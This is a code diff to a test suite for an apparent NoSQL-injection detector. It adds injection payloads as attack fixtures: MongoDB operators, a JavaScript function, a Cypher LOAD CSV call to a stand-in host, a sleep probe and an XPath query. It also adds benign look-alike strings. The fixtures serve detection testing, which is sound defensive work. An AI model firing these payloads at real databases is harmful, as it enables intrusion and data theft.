@@ -3,6 +3,11 @@ import { detectNoSql } from './detect-nosql.ts';
 
 describeDetector('detectNoSql', detectNoSql, {
   attacks: [
+    ['{"$eq":1}', 'operator'],
+    ['function(){return true}', 'script'],
+    ["' LOAD CSV FROM 'http://a.example/'+1 AS l RETURN l//", 'cypher'],
+    ['{!func}sleep(1)', 'search-engine'],
+    ['//user[1]/child::node()', 'xpath'],
     ['{"$where":"1"}', 'operator'],
     ['{"a":{"$ne":null}}', 'operator'],
     ['{"a":{"$gt":""}}', 'operator'],
@@ -20,6 +25,9 @@ describeDetector('detectNoSql', detectNoSql, {
   ],
   ordinary: [
     '',
+    '{"$set":{"name":"A"},"$token":"abc"}',
+    '{"$type":"App.Models.User, App"}',
+    'function() { return this.value; }',
     '$10',
     'filters[price][$gte]',
     '{"price":{"$gte":10}}',
